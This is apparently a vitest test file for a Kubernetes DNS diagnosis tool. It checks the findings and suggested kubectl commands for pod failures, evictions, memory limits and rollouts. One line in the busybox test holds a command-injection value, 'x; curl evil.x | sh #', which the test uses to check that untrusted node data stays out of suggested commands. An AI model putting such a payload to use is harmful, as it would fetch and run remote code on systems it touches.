import { describe, expect, it } from "vitest";
import { diagnose } from "../../../src/model/doctor/diagnose";
import type { FindingId } from "../../../src/model/doctor/findings";
import type { Pod } from "../../../src/model/kubernetes/kinds";
import type { ClusterDnsProps } from "../../../src/model/props/cluster-dns";
import * as edit from "./edit";
import { commands, described, event, findingsOf, found, healthy, lastOf, idsOf, pod, props } from "./healthy";

const is = healthy();
const unready = [{ type: "Ready", status: "False" }];
const unplaced = [{ type: "PodScheduled", status: "False", message: "0/2" }];
const taken = { phase: "Pending", conditions: unplaced };
const waiting = (reason: string, message: string, more: object = {}) => ({
  containerStatuses: [{ name: "coredns", restartCount: 3, state: { waiting: { reason, message } }, ...more }],
});
const ran = { lastState: { terminated: { exitCode: 1 } } };

/** The snapshot's pods if one has this status. */
function withStatus(status: NonNullable<Pod["status"]>, name = "coredns-0", from = is) {
  return edit.patched(from.pods, name, { status: { conditions: unready, ...status } });
}

/** Of one pod; its Service still has an endpoint for it, as in the moment before the controllers notice. */
function ofPod(status: NonNullable<Pod["status"]>) {
  const all = diagnose({ ...is, pods: withStatus(status) }, described());
  const finding = all.find(({ where }) => where.includes("coredns-0"));
  const steps = finding?.next.map((step) => (typeof step === "string" ? "" : step.args[0]));
  return { id: finding?.id, where: finding?.where, evidence: finding?.evidence, steps };
}

describe("a pod that does not serve", () => {
  const last = ["describe", ""];
  const ended = "container coredns ended 3 times, last with no reason (exit code 1)";
  const running = (time: string) => {
    const state = { running: { startedAt: `2026-10-31T${time}Z` } };
    return { containerStatuses: [{ name: "coredns", ready: false, state }] };
  };
  it.each<[FindingId, NonNullable<Pod["status"]>, evidence: string[], commands: string[]]>([
    ["unschedulable", taken, ["0/2"], last],
    // A container that never ran has no log.
    ["image-not-pulled", waiting("ImagePullBackOff", "Back-off pulling"), ["Back-off pulling"], last],
    ["cannot-start", waiting("RunContainerError", "no"), ["container coredns: RunContainerError", "no"], last],
    ["crash-loop", waiting("CrashLoopBackOff", "back-off 40s", ran), [ended, "back-off 40s"], ["describe", "logs", ""]],
    ["not-ready", running("23:58:59"), ["container coredns runs, but is not ready"], ["describe", "logs", "delete"]],
    ["not-ready", running("23:59:01"), ["container coredns runs, but is not ready"], ["describe", "logs"]],
  ])("%s", (id, status, evidence, steps) => {
    const where = "pod kube-system/coredns-0 on node-1 of Deployment coredns";
    expect(ofPod(status)).toEqual({ id, where, evidence: [...evidence, "1 of 2 pods are ready"], steps });
  });

  it.each([
    ["no scheduler has looked at it: its schedulerName is volcano", { nodeName: undefined, schedulerName: "volcano" }],
    ["its readiness gate mesh/ready is not True", { readinessGates: [{ conditionType: "mesh/ready" }] }],
  ])("not-ready: %s", (evidence, spec) => {
    const pods = edit.patched(withStatus({}), "coredns-0", { spec });
    expect(found({ pods }).find(({ id }) => id === "not-ready")?.evidence).toContain(evidence);
  });

  it("is one that cannot start if its kubelet fails to make its network, which only an event says", () => {
    const pods = withStatus(waiting("ContainerCreating", ""));
    const ofEvent = (reason: string) => found({ pods, events: [event("Pod", "coredns-0", reason, "open")] })[0];
    expect(ofEvent("FailedCreatePodSandBox")?.id).toBe("cannot-start");
    expect(ofEvent("FailedCreatePodSandBox")?.evidence).toContain("FailedCreatePodSandBox: open");
    expect(ofEvent("Unhealthy")?.id).toBe("not-ready");
  });

  it("is not to be mended in the cluster file if it is otherwise than its workload says", () => {
    const rolledOut = edit.changing("workloads", "coredns", { status: { updatedReplicas: 2 } });
    const status = waiting("ImagePullBackOff", "Back-off pulling");
    const sidecar = withStatus({
      containerStatuses: status.containerStatuses.map((each) => ({ ...each, name: "mesh" })),
    });
    const spec = { containers: [{ name: "coredns", image: "old:1" }] };
    for (const pods of [sidecar, edit.patched(withStatus(status), "coredns-0", { spec })])
      expect(lastOf({ ...rolledOut, pods })).toMatch(/^kubectl delete pod coredns-0 /);
    expect(lastOf({ ...rolledOut, pods: withStatus(status) })).toMatch(/cluster file/);
  });

  it("is none of nodes if the API server refuses what the scheduler writes", () => {
    const [message, reason] = ["failed calling webhook", "SchedulerError"];
    const conditions = [{ type: "PodScheduled", status: "False", reason, message }];
    const evidence = [message, expect.anything()];
    expect(ofPod({ phase: "Pending", conditions })).toMatchObject({ id: "cannot-start", evidence });
  });

  it.each([
    [1, "it said: /etc/coredns: no such file"],
    // Nobody asks it before a SIGKILL.
    [137, "Unhealthy: Liveness probe failed"],
  ])("says why a container ends again and again: exit code %d", (exitCode, said) => {
    const log = "2026-10-31T23:59:00Z starting\n2026-10-31T23:59:01Z /etc/coredns: no such file\n";
    const pods = withStatus(waiting("CrashLoopBackOff", "back-off 40s", { lastState: { terminated: { exitCode } } }));
    const events = [event("Pod", "coredns-0", "Unhealthy", "Liveness probe failed")];
    const reasons = ["it said: /etc/coredns: no such file", "Unhealthy: Liveness probe failed"];
    const evidence = found({ pods, events, ...edit.logged(log) })[0]?.evidence;
    expect(evidence?.filter((each) => reasons.includes(each))).toEqual([said]);
  });

  it("says which taint keeps it from which node", () => {
    const taints = [{ key: "x", value: "y", effect: "NoSchedule" }];
    const tainted = edit.changing("nodes", /./, { spec: { taints } });
    const unschedulable = found({ pods: withStatus(taken), ...tainted }).find(({ id }) => id === "unschedulable");
    expect(unschedulable?.evidence).toContain("node-1, node-2: taint x=y:NoSchedule is not tolerated");
  });

  it("does not end, so that a DaemonSet makes no other", () => {
    const ending = (deletionTimestamp: string, finalizers: readonly string[] = []) => {
      const deleted = edit.changing("pods", "node-local-dns-0", { metadata: { deletionTimestamp, finalizers } });
      return findingsOf(deleted).find(({ id }) => id === "too-few-pods");
    };
    const gone = "deleted, but not gone, so that no other comes: kube-system/node-local-dns-0 on node-1";
    const finding = ending("2026-10-31T23:58:59Z");
    expect(finding?.evidence).toContain(gone);
    expect(commands(finding).at(-1)).toMatch(/^kubectl delete pod node-local-dns-0 --force -n kube-system /);
    expect(ending("2026-10-31T23:59:01Z")?.evidence).not.toContain(gone);
    const kept = ending("2026-10-31T23:58:59Z", ["a.example/hold"]);
    expect(kept?.evidence.at(-1)).toMatch(/^finalizer a\.example\/hold keeps it /);
    expect(commands(kept).at(-1)).toMatch(/^kubectl patch pod node-local-dns-0 --type=json /);
  });

  it("is five pods by number, with some names, and an error if none is ready", () => {
    const status = { conditions: unready, containerStatuses: [{ name: "coredns", state: { running: {} } }] };
    const both = "kube-system/coredns-0 on node-1, kube-system/coredns-1 on node-2";
    const evidence = [both, "container coredns runs, but is not ready", "0 of 2 pods are ready"];
    const [first] = found(edit.changing("pods", /^coredns-/, { status }));
    expect(first).toEqual({ id: "none-ready", where: "2 pods of Deployment coredns", evidence });
  });

  it("is a warning if it is the autoscaler's", () => {
    const from = described({ ...props, authoritativeDNS: { autoscaler: { min: 1 } } });
    const pods = withStatus(waiting("ErrImagePull", "no such host"), "dns-autoscaler-0", healthy(from));
    expect(idsOf({ pods }, from)).toEqual(["autoscaler-down"]);
  });

  it("is kube-proxy's", () => {
    const labels = { "k8s-app": "kube-proxy" };
    const ownerReferences = [{ kind: "DaemonSet", name: "kube-proxy" }];
    const own = pod("kube-proxy-a", "kube-system", { nodeName: "node-1" }, { labels, ownerReferences });
    const status = { phase: "Running", conditions: unready, ...waiting("CrashLoopBackOff", "back-off 40s") };
    const proxy = edit.daemonSet("kube-proxy", { image: "registry.k8s.io/kube-proxy:v1.37.1" });
    const selecting = edit.merged(proxy as never, {
      spec: { selector: { matchLabels: labels } },
      status: { desiredNumberScheduled: 2 },
    });
    const where = "pod kube-system/kube-proxy-a on node-1 of DaemonSet kube-proxy";
    const change = { ...edit.adding("pods", [{ ...own, status }]), ...edit.adding("workloads", [selecting]) };
    expect(found(change)).toMatchObject([{ id: "crash-loop", where }]);
  });

  it("because of the memory limit of an init container, which has ended well since", () => {
    const lastState = { terminated: { reason: "OOMKilled", exitCode: 137 } };
    const setUp = { name: "node-setup", restartCount: 1, state: { terminated: { exitCode: 0 } }, lastState };
    const change = edit.changing("pods", "node-local-dns-0", {
      spec: { initContainers: [{ name: "node-setup", resources: { limits: { memory: "20Mi" } } }] },
      status: { initContainerStatuses: [setUp] },
    });
    const evidence = [
      expect.anything(),
      expect.stringMatching(/^memory limit: 20Mi of the pod, /),
      expect.anything(),
      expect.anything(),
    ];
    expect(found(change)).toMatchObject([{ id: "out-of-memory-once", evidence }]);
  });

  it("because it was evicted, which a successor mends", () => {
    expect(ofPod({ phase: "Failed", reason: "Evicted", message: "low on memory" })).toMatchObject({ id: "evicted" });
  });

  it.each([
    ["Deployment kube-system/coredns", "coredns-5f9-", 3, ["evicted-again"]],
    ["Deployment kube-system/coredns", "coredns-5f9-", 2, ["evicted"]],
    // Of a DaemonSet, none is left.
    ["DaemonSet kube-system/node-local-dns", "node-local-dns-", 3, ["evicted-again", "evicted"]],
    ["DaemonSet kube-system/node-local-dns", "node-local-dns-watchdog-", 2, ["evicted"]],
  ])("%s because %s* was evicted %i times in an hour", (where, prefix, times, ids) => {
    const events = Array.from({ length: times }, (_, i) => event("Pod", `${prefix}${i}`, "Evicted", "low on disk", i));
    const left = { metadata: { name: "coredns-5f9-0" }, status: { phase: "Failed", reason: "Evicted" } };
    const told = found({ events, pods: edit.copied(is.pods, "coredns-0", left) });
    expect(told.map(({ id }) => id)).toEqual(ids);
    const evidence = [expect.stringMatching(/^3 pods/), "Evicted: low on disk"];
    if (times > 2) expect(told[0]).toMatchObject({ where, evidence });
  });

  const oomKilled = (restartCount: number, finishedAt: string, state: object = { running: {} }) => {
    const terminated = { reason: "OOMKilled", exitCode: 137, finishedAt };
    const status = { name: "coredns", restartCount, state, lastState: { terminated } };
    return edit.changing("pods", "coredns-0", { status: { containerStatuses: [status] } });
  };
  const [lately, earlier] = ["2026-10-31T23:30:00Z", "2026-10-31T22:30:00Z"];
  const crashing = { waiting: { reason: "CrashLoopBackOff" } };
  it.each<[times: number, last: string, id: FindingId, state?: object]>([
    [3, lately, "out-of-memory"],
    [3, earlier, "out-of-memory-once"],
    [2, lately, "out-of-memory-once"],
    [2, lately, "out-of-memory", crashing],
  ])("because of its memory limit, %i times and last at %s, is %s: %j", (times, time, id, state) => {
    expect(idsOf(oomKilled(times, time, state))).toEqual([id]);
  });

  it("because of its memory limit, with the pod's, the template's and the described one", () => {
    expect(found({ ...edit.limitedTo("20Mi"), ...oomKilled(2, lately) })).toMatchObject([
      { id: "low-memory-limit", evidence: ["container coredns may use 20Mi, the cluster file renders 691Mi"] },
      {
        id: "out-of-memory-once",
        evidence: [
          `container coredns ended 2 times, last with OOMKilled (exit code 137) at ${lately}`,
          "memory limit: 691Mi of the pod, 20Mi of the template, 691Mi as rendered from the cluster file",
          expect.stringContaining("size"),
          "2 of 2 pods are ready",
        ],
      },
    ]);
  });

  const failing = { status: "False", reason: "FailedGetResourceMetric", message: "the server is currently unable" };
  it.each([
    ["ScalingActive", failing, ["autoscaler-stuck"]],
    ["AbleToScale", failing, ["autoscaler-stuck"]],
    ["ScalingActive", { ...failing, reason: "ScalingDisabled" }, []],
    ["ScalingLimited", failing, []],
    ["ScalingActive", { status: "True" }, []],
  ])("is not made where the autoscaler's %s is %j", (type, condition, ids) => {
    const from = described({ ...props, authoritativeDNS: { autoscaler: { mode: "horizontal" } } });
    const { asked } = healthy(from);
    const kind = "HorizontalPodAutoscaler";
    const scalers = edit.patched(asked.get(kind), /./, { status: { conditions: [{ type, ...condition }] } });
    const all = found({ asked: new Map([...asked, [kind, scalers]]) }, from);
    expect(all.map(({ id }) => id)).toEqual(ids);
    if (ids.length > 0) expect(all[0]?.evidence).toEqual([`${type} is False: ${failing.reason}: ${failing.message}`]);
  });

  const said = "no PriorityClass with name gone was found";
  it.each([
    { type: "ReplicaFailure", status: "True", reason: "FailedCreate", message: said },
    { type: "Progressing", status: "False", reason: "ReplicaSetCreateError", message: said },
  ])("because something refuses new ones, while the others run: %j", (condition) => {
    const refusing = edit.changing("workloads", "coredns", { status: { conditions: [condition] } });
    const evidence = [`pods that run stay, new ones are refused: ${said}`];
    expect(found(refusing)).toMatchObject([{ id: "refused-next", evidence }]);
  });

  it("because of what refuses it now, not of what did before the newest pod", () => {
    const others = edit.replaced(is.pods, "coredns-0", () => undefined);
    const events = [event("ReplicaSet", "coredns-5f9", "FailedCreate", "denied")];
    const evidence = (creationTimestamp: string) => {
      const pods = edit.patched(others, "coredns-1", { metadata: { creationTimestamp } });
      return findingsOf({ pods, events }).find(({ id }) => id === "too-few-pods")?.evidence;
    };
    expect(evidence("2026-10-31T23:59:00Z")).toContain("new pods are refused: FailedCreate: denied");
    expect(evidence("2026-10-31T23:59:31Z")).toEqual(["1 of 2 pods exist, 1 are ready"]);
  });

  it("because there is none, or something refuses it", () => {
    const gone = edit.lacking("pods", "coredns-0");
    // Its endpoint is still there.
    expect(idsOf(gone)).toEqual(["foreign-endpoint", "too-few-pods"]);
    const condition = { type: "ReplicaFailure", status: "True", reason: "FailedCreate", message: "denied" };
    const refusing = edit.changing("workloads", "coredns", { status: { conditions: [condition] } });
    const refused = findingsOf({ ...gone, ...refusing }).find(({ id }) => id === "too-few-pods");
    expect(refused?.evidence).toEqual(["1 of 2 pods exist, 1 are ready", "new pods are refused: denied"]);
    expect(commands(refused).at(-1)).toMatch(/^kubectl rollout restart deployment coredns -n kube-system/);
  });

  const withDNS = (authoritativeDNS: ClusterDnsProps["authoritativeDNS"]) => ({ ...props, authoritativeDNS });
  it.each<[id: FindingId, given: ClusterDnsProps, replicas: number, mends: RegExp]>([
    ["scaled-to-zero", props, 0, /^kubectl apply .* -k dist\/prod$/],
    ["scaled-down", props, 1, /^kubectl apply .* -k dist\/prod$/],
    ["scaled-down", withDNS({ autoscaler: { min: 3 } }), 2, /^kubectl scale deployment coredns --replicas=3 /],
    ["scaled-to-zero", withDNS({ autoscaler: { min: 3 } }), 0, /^kubectl scale .*--replicas=3 /],
    ["scaled-to-zero", withDNS({ autoscaler: { mode: "horizontal" } }), 0, /^kubectl scale .*--replicas=2 /],
    ["scaled-to-zero", withDNS({ kind: "Existing" }), 0, /^kubectl scale .*--replicas=2 /],
  ])("%s: %j has %i replicas", (id, given, replicas, mends) => {
    const from = described(given);
    const of = given.authoritativeDNS && "kind" in given.authoritativeDNS ? is : healthy(from);
    const workloads = edit.patched(of.workloads, "coredns", { spec: { replicas } });
    const all = diagnose({ ...healthy(from), workloads }, from);
    expect(commands(all.find((each) => each.id === id)).at(-1)).toMatch(mends);
  });
});

describe("pods with a resolv.conf of their own", () => {
  it("ask other servers, or the node's on its network", () => {
    const [own, host, ...more] = found(
      edit.adding("pods", [
        pod("own", "bar", { dnsPolicy: "None", dnsConfig: { nameservers: ["192.0.2.53"] } }),
        pod("host", "bar", { hostNetwork: true }),
        pod("fine", "bar", { dnsPolicy: "None", dnsConfig: { nameservers: ["10.96.0.10"] } }),
      ]),
    );
    expect(own).toMatchObject({ id: "asks-others", where: "pod bar/own" });
    expect(host).toMatchObject({ id: "host-network", where: "pod bar/host" });
    expect(more).toEqual([]);
  });

  it("lack options that pods get by now", () => {
    const admission = { allowedUsers: ["argo"], podDNSConfig: { options: { ndots: 2 } } };
    const lacks = { id: "pod-options-missing", where: "pod web/older" };
    // A policy needs no certificate.
    const from = described({ ...props, kubernetesVersion: "1.37", tenancy: undefined, admission });
    const added = edit.adding(
      "pods",
      [
        pod("older", "web", {}),
        pod("windows", "web", { os: { name: "windows" } }),
        pod("own", "web", { dnsConfig: { options: [{ name: "ndots", value: "5" }] } }),
        pod("system", "kube-system", {}),
      ],
      from,
    );
    expect(found(added, from)).toMatchObject([lacks]);
  });

  it("that run busybox, whose nslookup ignores the search list", () => {
    const running = (name: string, image: string) => pod(name, "bar", { containers: [{ name: "c", image }] });
    const pods = [...is.pods, running("try", "docker.io/library/busybox:1.36"), running("other", "mybusybox:1")];
    const asks = (domain: string) => `kubectl exec try -n bar -- nslookup kubernetes.default.svc.${domain}.`;
    expect(found({ pods })).toMatchObject([{ id: "busybox", where: "pod bar/try" }]);
    const from = described({ ...props, clusterDomain: "corp.example" });
    expect(diagnose({ ...healthy(from), pods }, from).flatMap(commands)).toContain(asks("corp.example"));
    // Without a cluster file, a node says the domain; but not what somebody runs.
    const kubelets = new Map([["node-1", { clusterDNS: ["10.96.0.10"], clusterDomain: "x; curl evil.x | sh #" }]]);
    expect(diagnose({ ...is, pods, kubelets }).flatMap(commands)).toEqual([asks("cluster.local")]);
  });
});

describe("an old pod beside a new one, both ready", () => {
  const stalled = (lastTransitionTime: string, minReadySeconds = 0) => {
    const status = { conditions: [{ type: "Ready", status: "True", lastTransitionTime }] };
    const pods = edit.copied(edit.patched(is.pods, "node-local-dns-0", { status }), "node-local-dns-0", {});
    const workloads = edit.changing("workloads", "node-local-dns", { spec: { minReadySeconds } });
    return findingsOf({ pods, ...workloads }).filter(({ id }) => id === "rollout-stalled");
  };

  it("for more than a minute: the rollout has stalled", () => {
    const annotate = /^kubectl annotate --overwrite daemonset node-local-dns looked-at=2026-11-01T00:00:00.000Z /;
    expect(stalled("2026-10-31T23:58:59Z").map(({ where, next }) => [where, commands({ next })])).toEqual([
      ["DaemonSet kube-system/node-local-dns", [expect.stringMatching(annotate)]],
    ]);
  });
  it("for less, or for less than a minute after minReadySeconds: the rollout goes on", () => {
    expect([...stalled("2026-10-31T23:59:01Z"), ...stalled("2026-10-31T23:58:00Z", 90)]).toEqual([]);
  });
});
